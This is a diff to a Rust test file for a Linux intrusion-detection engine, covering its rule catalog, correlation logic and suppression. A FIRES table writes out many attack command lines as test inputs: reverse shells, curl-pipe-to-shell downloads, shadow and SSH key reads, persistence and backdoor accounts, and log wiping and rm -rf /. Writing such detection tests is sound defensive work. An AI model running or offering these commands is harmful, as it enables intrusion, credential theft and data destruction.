@@ -92,11 +92,23 @@ fn raised(findings: &[Finding]) -> Vec<&Alert> {
 #[test]
 fn rules_are_declared_in_all_order_with_distinct_ids() {
     // Per-rule state (budgets, metrics) is indexed by the discriminant.
-    for (i, rule) in Rule::ALL.iter().enumerate() {
-        assert_eq!(*rule as usize, i, "{rule:?}");
+    for (i, rule) in Rule::all().enumerate() {
+        assert_eq!(rule.index(), i, "{rule:?}");
+        assert_eq!(Rule::from_id(rule.id()), Some(rule));
     }
-    let ids: std::collections::HashSet<&str> = Rule::ALL.iter().map(|r| r.id()).collect();
-    assert_eq!(ids.len(), Rule::ALL.len());
+    let ids: std::collections::HashSet<&str> = Rule::all().map(|r| r.id()).collect();
+    assert_eq!(ids.len(), Rule::count());
+    let code = [
+        Rule::ExecFromTempDir,
+        Rule::ExecFromMemory,
+        Rule::ShellInContainer,
+        Rule::LoginBruteForce,
+        Rule::Uid0AccountAdded,
+    ];
+    for (rule, id) in code.iter().zip(catalog::CODE_RULES) {
+        assert_eq!(rule.id(), id);
+        assert!(rule.def().data.is_none());
+    }
 }
 
 #[test]
@@ -472,9 +484,816 @@ fn state_stays_bounded_under_a_flood_of_distinct_subjects() {
     assert!(d.failures.len() <= MAX_ORIGINS);
 }
 
+/// A process event with this executable and command line.
+fn exec(executable: &str, command_line: &str) -> Event {
+    command(executable, command_line)
+}
+
+/// The ids of the rules a fresh detector raises on the event.
+fn fired(e: &Event) -> Vec<&'static str> {
+    let mut d = Detector::new();
+    run(&mut d, e, Instant::now())
+        .iter()
+        .map(|f| match f {
+            Finding::Raised(rule, _) | Finding::Suppressed(rule) => rule.id(),
+        })
+        .collect()
+}
+
+#[test]
+fn the_built_in_catalog_is_valid() {
+    let c = Catalog::parse(include_str!("rules.json")).expect("valid catalog");
+    assert_eq!(c.rules.len(), catalog().rules.len());
+    assert!(c.rules.len() > 30, "{}", c.rules.len());
+    for r in &c.rules {
+        assert!(!r.title.is_empty() && !r.description.is_empty(), "{}", r.id);
+        // Every rule but the package record maps to ATT&CK.
+        assert!(
+            !r.techniques.is_empty() || r.id == "software-changed",
+            "{} has no technique",
+            r.id
+        );
+    }
+}
+
+#[test]
+fn bad_catalogs_are_rejected_with_the_rule_and_reason() {
+    let code = r#"[
+      {"id":"exec-from-temp-dir","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
+      {"id":"exec-from-memory","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
+      {"id":"shell-in-container","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
+      {"id":"login-brute-force","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"},
+      {"id":"uid0-account-added","code":true,"title":"t","severity":"Warning","description":"d","remediation":"r"}"#;
+    let with = |rule: &str| format!("{code},{rule}]");
+    let ok = with(
+        r#"{"id":"x","title":"t","severity":"Warning","techniques":["T1000"],"description":"d","remediation":"r","kind":"ProcessCreate","match":{"field":"CommandLine","contains":"x"}}"#,
+    );
+    Catalog::parse(&ok).unwrap();
+    for (bad, why) in [
+        (
+            ok.replace(r#""CommandLine""#, r#""Commandline""#),
+            "has no field Commandline",
+        ),
+        (
+            ok.replace(r#""contains""#, r#""includes""#),
+            "unknown operator",
+        ),
+        (ok.replace("T1000", "T10"), "bad technique"),
+        (
+            ok.replace("Warning\",\"tech", "Severe\",\"tech"),
+            "severity",
+        ),
+        (ok.replace("ProcessCreate", "Heartbeat"), "is not one of"),
+        (
+            ok.replace(r#""id":"x""#, r#""id":"login-brute-force""#),
+            "duplicate id",
+        ),
+        (
+            ok.replace(r#""contains":"x""#, r#""cidr":"10.0.0.0/40""#),
+            "bad CIDR",
+        ),
+        (
+            ok.replace(r#""contains":"x""#, r#""contains":"x","prefix":"y""#),
+            "exactly one operator",
+        ),
+        (
+            ok.replace(
+                r#""match""#,
+                r#""threshold":{"count":1,"key":"UserId","within_secs":5},"match""#,
+            ),
+            "count",
+        ),
+        (
+            format!("{code}]").replace(r#"{"id":"exec-from-memory""#, r#"{"id":"exec-from-mem""#),
+            "must be code rule",
+        ),
+        ("{}".to_string(), "array"),
+    ] {
+        let e = Catalog::parse(&bad).unwrap_err();
+        assert!(e.contains(why), "{why}: {e}");
+    }
+}
+
+/// A realistic command line for every ProcessCreate data rule, the rule it must raise.
+const FIRES: &[(&str, &str, &str)] = &[
+    ("history-cleared", "/usr/bin/bash", "bash -c history -c"),
+    (
+        "history-cleared",
+        "/usr/bin/bash",
+        "bash -c unset HISTFILE; id",
+    ),
+    (
+        "history-cleared",
+        "/usr/bin/rm",
+        "rm -f /root/.bash_history",
+    ),
+    (
+        "history-cleared",
+        "/usr/bin/ln",
+        "ln -sf /dev/null /root/.bash_history",
+    ),
+    (
+        "history-cleared",
+        "/usr/bin/dash",
+        "sh -c > ~/.bash_history",
+    ),
+    ("history-cleared", "/bin/busybox", "rm /root/.ash_history"),
+    (
+        "decode-and-run",
+        "/usr/bin/bash",
+        "bash -c echo ZWNobyBoaQ== | base64 -d | bash",
+    ),
+    (
+        "decode-and-run",
+        "/usr/bin/dash",
+        "sh -c echo 6964 | xxd -r -p | sh",
+    ),
+    (
+        "decode-and-run",
+        "/usr/bin/bash",
+        "bash -c openssl enc -d -aes-256-cbc -in /home/a/p -k x | python3",
+    ),
+    (
+        "decode-and-run",
+        "/usr/bin/bash",
+        "bash -c eval $(echo aWQ= | base64 --decode)",
+    ),
+    (
+        "download-and-run",
+        "/usr/bin/bash",
+        "bash -c curl -fsSL http://198.51.100.7/x.sh | bash",
+    ),
+    (
+        "download-and-run",
+        "/usr/bin/dash",
+        "sh -c wget -qO- http://198.51.100.7/i | sh",
+    ),
+    (
+        "download-and-run",
+        "/usr/bin/bash",
+        "bash -c wget http://198.51.100.7/m -O /home/a/m && chmod +x /home/a/m",
+    ),
+    (
+        "reverse-shell",
+        "/usr/bin/bash",
+        "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+    ),
+    (
+        "reverse-shell",
+        "/usr/bin/nc.traditional",
+        "nc -e /bin/sh 198.51.100.7 4444",
+    ),
+    (
+        "reverse-shell",
+        "/usr/bin/ncat",
+        "ncat 198.51.100.7 4444 -e /bin/bash",
+    ),
+    (
+        "reverse-shell",
+        "/usr/bin/dash",
+        "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
+    ),
+    (
+        "reverse-shell",
+        "/usr/bin/socat",
+        "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
+    ),
+    (
+        "reverse-shell",
+        "/usr/bin/python3.11",
+        "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)",
+    ),
+    (
+        "reverse-shell",
+        "/usr/bin/perl",
+        "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");",
+    ),
+    (
+        "account-created",
+        "/usr/sbin/useradd",
+        "useradd -m -s /bin/bash backdoor",
+    ),
+    (
+        "account-created",
+        "/usr/sbin/adduser",
+        "adduser --disabled-password --gecos x support",
+    ),
+    (
+        "account-modified",
+        "/usr/sbin/usermod",
+        "usermod -aG sudo backdoor",
+    ),
+    ("account-modified", "/usr/bin/passwd", "passwd backdoor"),
+    (
+        "account-modified",
+        "/usr/bin/gpasswd",
+        "gpasswd -a backdoor docker",
+    ),
+    ("account-modified", "/usr/sbin/groupadd", "groupadd ops2"),
+    ("account-deleted", "/usr/sbin/userdel", "userdel -r alice"),
+    (
+        "cron-persistence",
+        "/usr/bin/crontab",
+        "crontab /home/a/cron.txt",
+    ),
+    ("cron-persistence", "/usr/bin/crontab", "crontab -"),
+    (
+        "cron-persistence",
+        "/usr/bin/bash",
+        "bash -c echo '* * * * * root /home/a/x' >> /etc/crontab",
+    ),
+    (
+        "cron-persistence",
+        "/usr/bin/tee",
+        "tee -a /etc/cron.d/update",
+    ),
+    (
+        "systemd-persistence",
+        "/usr/bin/systemctl",
+        "systemctl enable --now backdoor.service",
+    ),
+    (
+        "systemd-persistence",
+        "/usr/bin/bash",
+        "bash -c echo '[Service]' > /etc/systemd/system/evil.service",
+    ),
+    (
+        "systemd-persistence",
+        "/usr/bin/cp",
+        "cp /home/a/evil.service /etc/systemd/system/",
+    ),
+    (
+        "shell-profile-modified",
+        "/usr/bin/bash",
+        "bash -c echo 'curl x|sh' >> ~/.bashrc",
+    ),
+    (
+        "shell-profile-modified",
+        "/usr/bin/dash",
+        "sh -c echo x > /etc/profile.d/z.sh",
+    ),
+    (
+        "shell-profile-modified",
+        "/usr/bin/tee",
+        "tee -a /root/.profile",
+    ),
+    (
+        "ssh-authorized-keys-modified",
+        "/usr/bin/bash",
+        "bash -c echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys",
+    ),
+    (
+        "ssh-authorized-keys-modified",
+        "/usr/bin/cp",
+        "cp /home/a/k /home/alice/.ssh/authorized_keys",
+    ),
+    ("setuid-set", "/usr/bin/chmod", "chmod u+s /home/a/sh"),
+    (
+        "setuid-set",
+        "/usr/bin/chmod",
+        "chmod 4755 /usr/local/bin/x",
+    ),
+    ("setuid-set", "/usr/bin/chmod", "chmod +s /bin/bash"),
+    (
+        "setuid-set",
+        "/usr/sbin/setcap",
+        "setcap cap_setuid+ep /usr/bin/python3",
+    ),
+    ("credential-file-access", "/usr/bin/cat", "cat /etc/shadow"),
+    (
+        "credential-file-access",
+        "/usr/bin/cp",
+        "cp /etc/shadow /home/a/s",
+    ),
+    (
+        "credential-file-access",
+        "/usr/sbin/unshadow",
+        "unshadow /etc/passwd /etc/shadow",
+    ),
+    (
+        "credential-file-access",
+        "/usr/bin/head",
+        "head /etc/gshadow",
+    ),
+    (
+        "private-key-access",
+        "/usr/bin/cat",
+        "cat /root/.ssh/id_rsa",
+    ),
+    ("private-key-access", "/usr/bin/find", "find / -name id_rsa"),
+    (
+        "firewall-disabled",
+        "/usr/sbin/xtables-nft-multi",
+        "iptables -F",
+    ),
+    (
+        "firewall-disabled",
+        "/usr/sbin/iptables-legacy",
+        "iptables -P INPUT ACCEPT",
+    ),
+    (
+        "firewall-disabled",
+        "/usr/sbin/iptables",
+        "iptables -t filter -F INPUT",
+    ),
+    ("firewall-disabled", "/usr/sbin/nft", "nft flush ruleset"),
+    ("firewall-disabled", "/usr/sbin/ufw", "ufw disable"),
+    (
+        "firewall-disabled",
+        "/usr/bin/systemctl",
+        "systemctl stop firewalld",
+    ),
+    ("audit-disabled", "/usr/sbin/auditctl", "auditctl -e 0"),
+    ("audit-disabled", "/usr/sbin/auditctl", "auditctl -D"),
+    (
+        "audit-disabled",
+        "/usr/bin/systemctl",
+        "systemctl stop auditd",
+    ),
+    ("audit-disabled", "/usr/sbin/service", "service auditd stop"),
+    (
+        "timestomp",
+        "/usr/bin/touch",
+        "touch -t 202001010000 /usr/bin/evil",
+    ),
+    (
+        "timestomp",
+        "/usr/bin/touch",
+        "touch -r /bin/ls /usr/local/bin/x",
+    ),
+    (
+        "timestomp",
+        "/usr/bin/touch",
+        "touch --date=2020-01-01 /etc/x",
+    ),
+    (
+        "kernel-module-loaded",
+        "/usr/bin/kmod",
+        "insmod /home/a/rootkit.ko",
+    ),
+    (
+        "kernel-module-loaded",
+        "/usr/bin/kmod",
+        "modprobe /home/a/x.ko",
+    ),
+    ("logs-removed", "/usr/bin/rm", "rm -rf /var/log/auth.log"),
+    ("logs-removed", "/usr/bin/shred", "shred -u /var/log/syslog"),
+    (
+        "logs-removed",
+        "/usr/bin/truncate",
+        "truncate -s 0 /var/log/wtmp",
+    ),
+    (
+        "logs-removed",
+        "/usr/bin/journalctl",
+        "journalctl --vacuum-time=1s",
+    ),
+    (
+        "crypto-miner",
+        "/opt/x/xmrig",
+        "xmrig -o pool.example:3333 -u wallet",
+    ),
+    (
+        "crypto-miner",
+        "/opt/x/systemd-helper",
+        "/opt/x/systemd-helper --donate-level 1 -o stratum+tcp://pool.example:443",
+    ),
+    (
+        "credential-dumping-tool",
+        "/usr/local/bin/mimipenguin",
+        "mimipenguin",
+    ),
+    (
+        "credential-dumping-tool",
+        "/usr/bin/python3.11",
+        "python3 laZagne.py all",
+    ),
+    (
+        "password-cracking-tool",
+        "/usr/sbin/john",
+        "john /home/a/hashes",
+    ),
+    (
+        "password-cracking-tool",
+        "/usr/bin/hydra",
+        "hydra -l root -P pw.txt ssh://10.0.0.5",
+    ),
+    ("network-scanner", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24"),
+    ("enumeration-tool", "/usr/bin/bash", "bash linpeas.sh"),
+    ("enumeration-tool", "/usr/local/bin/pspy64", "pspy64"),
+    (
+        "nohup-from-temp-dir",
+        "/usr/bin/nohup",
+        "nohup /tmp/.x/agent",
+    ),
+    (
+        "compile-in-temp-dir",
+        "/usr/bin/x86_64-linux-gnu-gcc-12",
+        "cc -o /tmp/exploit /tmp/exploit.c",
+    ),
+    (
+        "system-path-wiped",
+        "/usr/bin/rm",
+        "rm -rf --no-preserve-root /",
+    ),
+    ("system-path-wiped", "/usr/bin/rm", "rm -rf /etc"),
+    ("system-path-wiped", "/usr/bin/rm", "rm -fr /*"),
+    (
+        "port-forwarding",
+        "/usr/bin/ssh",
+        "ssh -fN -R 2222:localhost:22 user@198.51.100.7",
+    ),
+    (
+        "port-forwarding",
+        "/usr/bin/socat",
+        "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
+    ),
+    (
+        "docker-api-on-tcp",
+        "/usr/bin/dockerd",
+        "dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock",
+    ),
+    (
+        "trailing-space-executable",
+        "/usr/local/bin/ls ",
+        "/usr/local/bin/ls  -la",
+    ),
+];
+
+/// Ordinary administration and package work that must raise nothing.
+const QUIET: &[(&str, &str)] = &[
+    ("/usr/bin/apt-get", "apt-get install -y nginx"),
+    ("/usr/bin/dpkg", "dpkg --configure -a"),
+    ("/usr/bin/systemctl", "systemctl restart nginx"),
+    ("/usr/bin/systemctl", "systemctl daemon-reload"),
+    ("/usr/bin/systemctl", "systemctl is-enabled ssh"),
+    ("/usr/bin/systemctl", "systemctl status auditd"),
+    (
+        "/usr/sbin/logrotate",
+        "/usr/sbin/logrotate /etc/logrotate.conf",
+    ),
+    (
+        "/usr/sbin/useradd",
+        "useradd -r -s /usr/sbin/nologin -d /nonexistent _apt",
+    ),
+    (
+        "/usr/sbin/adduser",
+        "adduser --system --group --no-create-home nginx",
+    ),
+    ("/usr/sbin/groupadd", "groupadd -r systemd-journal"),
+    ("/usr/bin/passwd", "passwd"),
+    ("/usr/bin/crontab", "crontab -l"),
+    ("/usr/bin/crontab", "crontab -e"),
+    (
+        "/usr/bin/dash",
+        "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
+    ),
+    ("/usr/bin/bash", "bash -c source ~/.bashrc"),
+    ("/usr/bin/bash", "bash -c echo $HISTFILE"),
+    (
+        "/usr/bin/bash",
+        "bash -c cat ~/.bash_history > /home/a/copy",
+    ),
+    ("/usr/bin/cat", "cat /etc/passwd"),
+    ("/usr/bin/cat", "cat /root/.ssh/id_rsa.pub"),
+    ("/usr/bin/cat", "cat /root/.ssh/authorized_keys"),
+    ("/usr/bin/sed", "sed -n 1p /root/.ssh/authorized_keys"),
+    ("/usr/bin/cp", "cp /etc/skel/.bashrc /home/bob/"),
+    ("/usr/bin/chmod", "chmod 755 /usr/local/bin/app"),
+    ("/usr/bin/chmod", "chmod +x deploy.sh"),
+    ("/usr/bin/chmod", "chmod 0644 /etc/app.conf"),
+    ("/usr/bin/chmod", "chmod -R u+rwX,go+rX /srv/www"),
+    ("/usr/sbin/setcap", "setcap cap_net_raw+p /bin/ping"),
+    (
+        "/usr/sbin/xtables-nft-multi",
+        "iptables --wait -t nat -F DOCKER",
+    ),
+    (
+        "/usr/sbin/xtables-nft-multi",
+        "iptables --wait -t filter -F DOCKER-ISOLATION-STAGE-1",
+    ),
+    ("/usr/sbin/xtables-nft-multi", "iptables -L -n"),
+    (
+        "/usr/sbin/xtables-nft-multi",
+        "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
+    ),
+    ("/usr/sbin/nft", "nft list ruleset"),
+    ("/usr/bin/touch", "touch /var/run/app.pid"),
+    ("/usr/bin/touch", "touch -c -m /var/lib/app/stamp"),
+    ("/usr/bin/kmod", "modprobe br_netfilter"),
+    ("/usr/bin/kmod", "modprobe -r overlay"),
+    ("/usr/bin/rm", "rm -f /tmp/build.log"),
+    ("/usr/bin/rm", "rm -rf /var/lib/app/cache"),
+    ("/usr/bin/rm", "rm -rf ./build/"),
+    ("/usr/bin/rm", "rm -rf /tmp/x/*"),
+    ("/usr/bin/journalctl", "journalctl -u nginx --since today"),
+    ("/usr/bin/ssh", "ssh admin@10.0.0.5 uptime"),
+    (
+        "/usr/bin/dockerd",
+        "dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
+    ),
+    ("/usr/bin/curl", "curl -fsSL https://example.com/health"),
+    (
+        "/usr/bin/bash",
+        "bash -c curl -s http://localhost:8080/health | grep ok",
+    ),
+    ("/usr/bin/bash", "bash -c echo hello | base64"),
+    ("/usr/bin/bash", "bash -c base64 -d key.b64 > key.bin"),
+    ("/usr/bin/git", "git log -5"),
+    ("/usr/bin/python3.11", "python3 -m pip install requests"),
+    (
+        "/usr/bin/python3.11",
+        "python3 -c import socket; print(socket.gethostname())",
+    ),
+    ("/usr/bin/gcc-12", "gcc -O2 -o app main.c"),
+    ("/usr/bin/nohup", "nohup /usr/local/bin/app --serve"),
+    ("/usr/bin/tee", "tee /etc/app/config.yaml"),
+    ("/usr/bin/wget", "wget -q https://example.com/firmware.bin"),
+    ("/usr/bin/nc.openbsd", "nc -z 10.0.0.5 22"),
+    ("/bin/busybox", "busybox ls /etc/cron.d"),
+];
+
+#[test]
+fn data_rules_fire_on_realistic_command_lines() {
+    for (rule, exe, cmd) in FIRES {
+        let ids = fired(&exec(exe, cmd));
+        assert!(ids.contains(rule), "{rule} on {cmd:?}: fired {ids:?}");
+    }
+    // Every ProcessCreate data rule (but the sequence, tested below) has a case.
+    for def in &catalog().rules {
+        let Some(data) = &def.data else { continue };
+        let sequence = matches!(data.correlation, Correlation::Sequence { .. });
+        if data.kind == crate::event::EventKind::ProcessCreate && !sequence {
+            assert!(
+                FIRES.iter().any(|(id, ..)| *id == def.id),
+                "no firing test for {}",
+                def.id
+            );
+        }
+    }
+}
+
+#[test]
+fn ordinary_admin_work_raises_nothing() {
+    for (exe, cmd) in QUIET {
+        assert_eq!(fired(&exec(exe, cmd)), Vec::<&str>::new(), "{cmd:?}");
+    }
+}
+
+#[test]
+fn data_alerts_carry_title_techniques_and_evidence() {
+    let mut d = Detector::new();
+    let mut e = exec("/usr/bin/bash", "bash -c history -c");
+    if let Payload::ProcessCreate(v) = &mut e.payload {
+        v[0].extra_details
+            .insert("ContainerName".into(), "web".into());
+        v[0].extra_details.insert("ContainerId".into(), "c1".into());
+    }
+    let f = run(&mut d, &e, Instant::now());
+    let a = raised(&f);
+    assert_eq!(a.len(), 1);
+    let a = a[0];
+    assert_eq!(a.rule_id, "history-cleared");
+    assert_eq!(a.title.as_deref(), Some("Shell history cleared"));
+    assert_eq!(a.techniques, ["T1070.003"]);
+    assert_eq!(a.severity, BaselineSeverity::Important);
+    assert_eq!(
+        a.description,
+        "Shell history cleared: bash -c history -c (process 4242, user alice) in container web"
+    );
+    assert_eq!(a.command_line.as_deref(), Some("bash -c history -c"));
+    assert_eq!(a.process_id, Some(4242));
+    assert_eq!(a.container_name.as_deref(), Some("web"));
+    assert_eq!(a.extra_details["EventId"], e.id.to_string());
+    assert_eq!(a.extra_details["EventKind"], "ProcessCreate");
+    assert_eq!(a.extra_details["ParentProcessId"], "1");
+    // Code rules carry theirs too.
+    let f = run(&mut d, &process("/tmp/x", None), Instant::now());
+    assert_eq!(raised(&f)[0].techniques, Rule::ExecFromTempDir.techniques());
+    assert!(raised(&f)[0].title.is_some());
+}
+
+#[test]
+fn data_rules_share_suppression_budget_and_disabling() {
+    let mut d = Detector::new();
+    let t0 = Instant::now();
+    let e = exec("/usr/bin/cat", "cat /etc/shadow");
+    assert_eq!(raised(&run(&mut d, &e, t0)).len(), 1);
+    let rule = Rule::from_id("credential-file-access").unwrap();
+    assert_eq!(run(&mut d, &e, t0), vec![Finding::Suppressed(rule)]);
+    assert_eq!(raised(&run(&mut d, &e, t0 + SUPPRESSION)).len(), 1);
+    // A distinct subject per event: at most the budget per minute.
+    let t1 = t0 + SUPPRESSION * 2;
+    let mut up = 0;
+    for i in 0..100 {
+        let e = exec("/usr/bin/cat", &format!("cat /etc/shadow /home/{i}"));
+        up += raised(&run(&mut d, &e, t1)).len() as u32;
+    }
+    assert_eq!(up, MAX_ALERTS_PER_MINUTE);
+    d.set_disabled(&[rule]);
+    let e = exec("/usr/bin/cat", "cat /etc/gshadow");
+    assert_eq!(run(&mut d, &e, t1 + SUPPRESSION), vec![]);
+}
+
+fn login(operation: &str, user: &str, result: LoginResult) -> Event {
+    let mut e = failed_login(operation, None, user);
+    if let Payload::Login(v) = &mut e.payload {
+        v[0].result = result;
+    }
+    e
+}
+
+#[test]
+fn a_threshold_rule_alerts_at_its_count_per_key_within_its_window() {
+    let mut d = Detector::new();
+    let t0 = Instant::now();
+    let sudo = |u: &str| login("sudo", u, LoginResult::Fail);
+    // Two failures each for two users, and successes: nothing.
+    for u in ["bob", "carol"] {
+        assert_eq!(run(&mut d, &sudo(u), t0), vec![]);
+        assert_eq!(run(&mut d, &sudo(u), t0), vec![]);
+        assert_eq!(
+            run(&mut d, &login("sudo", u, LoginResult::Success), t0),
+            vec![]
+        );
+    }
+    // Bob's third within 5 minutes alerts, with the count.
+    let f = run(&mut d, &sudo("bob"), t0 + Duration::from_secs(299));
+    let a = raised(&f);
+    assert_eq!(a.len(), 1);
+    assert_eq!(a[0].rule_id, "sudo-failures");
+    assert_eq!(a[0].event_count, 3);
+    assert_eq!(a[0].user_name.as_deref(), Some("bob"));
+    // Carol's third comes after her first two left the window.
+    assert_eq!(
+        run(&mut d, &sudo("carol"), t0 + Duration::from_secs(300)),
+        vec![]
+    );
+}
+
+#[test]
+fn a_sequence_rule_alerts_on_the_second_step_from_the_same_key() {
+    let mut d = Detector::new();
+    let t0 = Instant::now();
+    let with_parent = |exe: &str, cmd: &str, parent: u32| {
+        let mut e = exec(exe, cmd);
+        if let Payload::ProcessCreate(v) = &mut e.payload {
+            v[0].parent_process_id = parent;
+        }
+        e
+    };
+    let get = with_parent(
+        "/usr/bin/wget",
+        "wget http://198.51.100.7/a -O /home/a/a",
+        700,
+    );
+    let chmod = |parent| with_parent("/usr/bin/chmod", "chmod +x /home/a/a", parent);
+    // chmod alone, or from another parent, or too late: nothing.
+    assert_eq!(run(&mut d, &chmod(700), t0), vec![]);
+    assert_eq!(run(&mut d, &get, t0), vec![]);
+    assert_eq!(run(&mut d, &chmod(701), t0), vec![]);
+    assert_eq!(
+        run(&mut d, &chmod(700), t0 + Duration::from_secs(121)),
+        vec![]
+    );
+    // In time from the same shell: alerts once; the step is used up.
+    assert_eq!(run(&mut d, &get, t0 + Duration::from_secs(200)), vec![]);
+    let f = run(&mut d, &chmod(700), t0 + Duration::from_secs(210));
+    let a = raised(&f);
+    assert_eq!(a.len(), 1, "{f:?}");
+    assert_eq!(a[0].rule_id, "download-then-chmod");
+    assert_eq!(a[0].event_count, 2);
+    assert_eq!(
+        run(&mut d, &chmod(700), t0 + Duration::from_secs(211)),
+        vec![]
+    );
+}
+
+#[test]
+fn correlation_state_stays_bounded() {
+    let mut d = Detector::new();
+    let now = Instant::now();
+    for i in 0..MAX_CORRELATION_KEYS + 100 {
+        run(
+            &mut d,
+            &login("sudo", &format!("u{i}"), LoginResult::Fail),
+            now,
+        );
+    }
+    let rule = Rule::from_id("sudo-failures").unwrap();
+    assert_eq!(d.correlation[&rule].len(), MAX_CORRELATION_KEYS);
+}
+
+#[test]
+fn rules_on_other_kinds_fire() {
+    use crate::event::{
+        ConnectionCreate, Direction, FirewallChange, SoftwareChange, SoftwareOperation,
+    };
+    let conn = |exe: &str, to: &str, dir: Direction| {
+        Event::new(Payload::ConnectionCreate(vec![ConnectionCreate {
+            remote_address: to.parse().unwrap(),
+            remote_port: 4444,
+            local_address: None,
+            local_port: None,
+            direction: dir,
+            protocol: "tcp".into(),
+            process_id: 99,
+            user_id: Some("0".into()),
+            executable: exe.into(),
+            command_line: Some(format!("{} -x", base_name(exe))),
+            extra_details: Default::default(),
+        }]))
+    };
+    assert_eq!(
+        fired(&conn("/usr/bin/bash", "198.51.100.7", Direction::Out)),
+        ["shell-network-connection"]
+    );
+    assert_eq!(
+        fired(&conn("/usr/bin/bash", "127.0.0.1", Direction::Out)),
+        Vec::<&str>::new()
+    );
+    assert_eq!(
+        fired(&conn("/usr/bin/bash", "::1", Direction::Out)),
+        Vec::<&str>::new()
+    );
+    assert_eq!(
+        fired(&conn("/usr/bin/curl", "198.51.100.7", Direction::Out)),
+        Vec::<&str>::new()
+    );
+    let fw = |op: &str| {
+        Event::new(Payload::FirewallChange(vec![FirewallChange {
+            operation: op.into(),
+            family: "inet".into(),
+            table: "filter".into(),
+            chain: None,
+            count: 1,
+            extra_details: Default::default(),
+        }]))
+    };
+    assert_eq!(fired(&fw("TableDeleted")), ["firewall-table-deleted"]);
+    assert_eq!(fired(&fw("RuleDeleted")), Vec::<&str>::new());
+    let pkg = |op| {
+        Event::new(Payload::SoftwareChange(vec![SoftwareChange {
+            operation: op,
+            name: "netcat-traditional".into(),
+            version: "1.10-47".into(),
+            previous_version: None,
+            architecture: "amd64".into(),
+            package_manager: "dpkg".into(),
+            extra_details: Default::default(),
+        }]))
+    };
+    assert_eq!(
+        fired(&pkg(SoftwareOperation::Installed)),
+        ["software-changed"]
+    );
+    assert_eq!(
+        fired(&pkg(SoftwareOperation::Removed)),
+        ["software-changed"]
+    );
+    assert_eq!(
+        fired(&pkg(SoftwareOperation::VersionChanged)),
+        Vec::<&str>::new()
+    );
+    let mut start = exec_start(None);
+    if let Payload::ContainerEvent(v) = &mut start.payload {
+        v[0].action = "start".into();
+    }
+    assert_eq!(fired(&start), Vec::<&str>::new());
+    if let Payload::ContainerEvent(v) = &mut start.payload {
+        v[0].extra_details
+            .insert("Privileged".into(), "True".into());
+    }
+    assert_eq!(fired(&start), ["privileged-container-started"]);
+}
+
+#[test]
+fn program_is_the_executable_the_applet_or_argv0() {
+    use catalog::Rec;
+    let programs = |exe: &str, cmd: &str| {
+        let e = exec(exe, cmd);
+        let Payload::ProcessCreate(v) = &e.payload else {
+            unreachable!()
+        };
+        Rec::Process(&v[0])
+            .programs()
+            .map(|p| p.map(str::to_string))
+    };
+    let p = |a: &str, b: Option<&str>| [Some(a.to_string()), b.map(str::to_string)];
+    assert_eq!(
+        programs("/usr/bin/kmod", "insmod x.ko"),
+        p("kmod", Some("insmod"))
+    );
+    assert_eq!(programs("/usr/bin/rm", "rm -f x"), p("rm", None));
+    assert_eq!(programs("/bin/busybox", "busybox rm x"), p("rm", None));
+    assert_eq!(programs("/bin/busybox", "/bin/rm x"), p("rm", None));
+    assert_eq!(programs("/bin/busybox", ""), [None, None]);
+    assert_eq!(programs("", ""), [None, None]);
+}
+
 proptest! {
     /// Whatever a collector or another module sends, the detector neither panics nor alerts on
-    /// a kind it has no rule for, and raises at most one alert per record.
+    /// a kind it has no rule for, and raises at most one alert per rule and record.
     #[test]
     fn arbitrary_records_never_panic(
         exe in ".{0,40}",
@@ -482,13 +1301,46 @@ proptest! {
         operation in ".{0,20}",
         name in ".{0,12}",
         id in "[0-9]{0,3}",
+        words in proptest::collection::vec(
+            proptest::sample::select(vec![
+                "sh", "bash", "-c", "busybox", "rm", "-rf", "/", "/etc", "|", ">", ">>",
+                "/var/log/x", "history", "-F", "base64", "-d", "curl", "chmod", "+x", "u+s",
+                "/dev/tcp/1.2.3.4/1", "nc", "-e", "ü", "*", "?", "", " ", "stratum+tcp://",
+            ]),
+            0..12,
+        ),
+        program in proptest::sample::select(vec![
+            "/usr/bin/bash", "/bin/busybox", "/usr/bin/rm", "/usr/bin/chmod", "/usr/sbin/nft",
+            "/usr/bin/kmod", "/usr/bin/python3.11", "/usr/bin/socat", "/usr/bin/touch",
+        ]),
     ) {
         let mut d = Detector::new();
         let now = Instant::now();
-        prop_assert!(run(&mut d, &process(&exe, None), now).len() <= 1);
-        prop_assert!(run(&mut d, &exec_start(command.as_deref()), now).len() <= 1);
-        prop_assert!(run(&mut d, &failed_login(&operation, None, &name), now).len() <= 1);
+        prop_assert!(run(&mut d, &process(&exe, None), now).len() <= Rule::count());
+        let line = words.join(" ");
+        prop_assert!(run(&mut d, &exec(program, &line), now).len() <= Rule::count());
+        prop_assert!(run(&mut d, &exec(&exe, &line), now).len() <= Rule::count());
+        prop_assert!(run(&mut d, &exec_start(command.as_deref()), now).len() <= 2);
+        prop_assert!(run(&mut d, &failed_login(&operation, None, &name), now).len() <= 2);
+        prop_assert!(run(&mut d, &login(&operation, &name, LoginResult::Fail), now).len() <= 2);
         let change = user_change(AccountOperation::UserChanged, &name, &id, false);
         prop_assert!(run(&mut d, &change, now).len() <= 1);
     }
+}
+
+#[test]
+fn every_rule_is_documented() {
+    let doc = include_str!("../../docs/detection.md");
+    for rule in Rule::all() {
+        let heading = format!("### `{}` — {}", rule.id(), rule.title());
+        assert!(doc.contains(&heading), "docs/detection.md lacks {heading}");
+    }
+    let count = format!("{} rules (", Rule::count());
+    assert!(
+        doc.contains(&count),
+        "docs/detection.md does not say {count}"
+    );
+    let readme = include_str!("../../README.md");
+    let count = format!("**{} rules**", Rule::count());
